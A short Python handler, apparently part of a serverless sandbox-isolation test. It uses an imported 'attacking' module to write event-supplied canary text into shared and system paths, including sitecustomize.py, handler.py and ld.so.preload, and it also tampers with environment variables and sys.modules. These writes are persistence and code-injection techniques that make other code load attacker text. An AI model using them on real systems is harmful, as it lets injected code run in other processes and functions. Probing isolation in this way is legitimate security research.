"""Leaves a text wherever another function might find it, or might run it. event: the text."""

import os
import sys
from typing import Any

import attacking

PLACES = (
    "/tmp",
    "/dev/shm",
    "/var/task",
    "/opt/python",
    "/var/runtime",
    "/var/lang",
    "/usr/lib/python3",
    "/etc",
    "/dev",
)


def handler(event: Any, context: Any) -> Any:
    """Where it could be left; two of these are the function's own."""
    names = ("canary", "sitecustomize.py", "handler.py", "ld.so.preload")
    left = [f"{place}/{name}" for place in PLACES for name in names if attacking.write(f"{place}/{name}", event)]
    os.environ["CANARY"] = event
    sys.modules["canary"] = sys
    return sorted({os.path.dirname(path) for path in left})
